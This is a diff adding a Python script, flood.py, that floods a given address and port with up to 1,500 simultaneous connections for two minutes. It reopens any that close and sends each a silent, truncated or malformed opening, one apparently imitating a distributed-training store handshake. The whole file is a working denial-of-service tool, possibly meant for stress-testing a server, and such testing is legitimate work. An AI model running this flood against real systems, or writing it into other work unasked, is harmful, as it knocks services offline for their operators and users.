@@ -1,0 +1,38 @@
+"""flood.py ADDRESS PORT: many connections at once, silent, with a first byte of c10d, or with half a hello; those that are closed are
+opened again. Prints "flooding" when it has opened some hundred. Ends by itself after two minutes.
+"""
+import contextlib
+import resource
+import selectors
+import socket
+import struct
+import sys
+import time
+
+OPENINGS = (b"", struct.pack("=BI", 0, 0x3C85F7CE), b"\xdddr\x01\x00")
+AT_ONCE, BURST = 1500, 100
+
+address, port, end = sys.argv[1], int(sys.argv[2]), time.monotonic() + 120
+hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+selector = selectors.DefaultSelector()
+opened = 0
+while time.monotonic() < end:
+    for i in range(min(BURST, AT_ONCE - len(selector.get_map()))):
+        s = socket.socket()
+        s.setblocking(False)
+        with contextlib.suppress(OSError):
+            s.connect_ex((address, port))
+            selector.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, OPENINGS[(opened + i) % len(OPENINGS)])
+    before = opened
+    for key, events in selector.select(0.01):
+        if events & selectors.EVENT_WRITE and not events & selectors.EVENT_READ:
+            opened += 1
+            with contextlib.suppress(OSError):
+                key.fileobj.send(key.data)
+            selector.modify(key.fileobj, selectors.EVENT_READ)
+            continue
+        selector.unregister(key.fileobj)
+        key.fileobj.close()
+    if before < 300 <= opened:
+        print("flooding", flush=True)
